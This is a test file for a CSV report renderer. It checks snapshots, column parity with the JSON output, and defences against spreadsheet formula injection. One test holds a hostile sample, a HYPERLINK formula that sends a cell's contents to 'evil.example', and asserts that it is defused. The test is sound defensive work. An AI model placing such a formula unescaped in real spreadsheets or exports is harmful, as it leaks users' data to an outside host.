// The CSV format: one dimension per run with the JSON's field names, parseable by csv-parse, and defused
// against spreadsheet formula injection.

import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { DIMENSION_IDS } from '../src/analyze/index.js';
import { csvColumns, renderCsv } from '../src/render/csv.js';
import { jsonRows } from '../src/render/json.js';
import { sampleReport, sampleView, viewOf } from './helpers/sample-report.js';

describe('CSV report', () => {
  it.each(['code', 'category', 'user', 'client-app', 'day'] as const)('matches the golden file --by %s', async (by) => {
    await expect(renderCsv(sampleView(), { color: false, by })).toMatchFileSnapshot(`golden/report/sample.by-${by}.csv`);
  });

  it.each(DIMENSION_IDS)('--by %s has the JSON fields as columns and one record per row', (by) => {
    const report = sampleReport();
    const records = parse(renderCsv(viewOf(report), { color: false, by }), { columns: true }) as Record<string, string>[];
    const rows = jsonRows(report, by) as unknown as Record<string, unknown>[];
    expect(records).toHaveLength(rows.length);
    expect(Object.keys(records[0]!)).toEqual(csvColumns(by));
    expect(new Set(csvColumns(by))).toEqual(new Set(Object.keys(rows[0]!)));
  });

  it('defuses cells a spreadsheet would run as a formula', () => {
    const records = parse(renderCsv(sampleView(), { color: false, by: 'user' }), { columns: true }) as { user: string }[];
    const hostile = records.find((record) => record.user.includes('HYPERLINK'));
    expect(hostile?.user).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    for (const record of records) expect(record.user).not.toMatch(/^[=+\-@]/);
  });

  it('keeps every record on one line and free of control characters', () => {
    const text = renderCsv(sampleView(), { color: false, by: 'code' });
    const records = parse(text, { columns: true }) as { code: string; failureReason: string }[];
    expect(text.split('\n')).toHaveLength(records.length + 2);
    expect(records.find((record) => record.code === '88888801')?.failureReason).toBe('Strange multi-line reason =1+2 <b>bold</b>');
  });
});
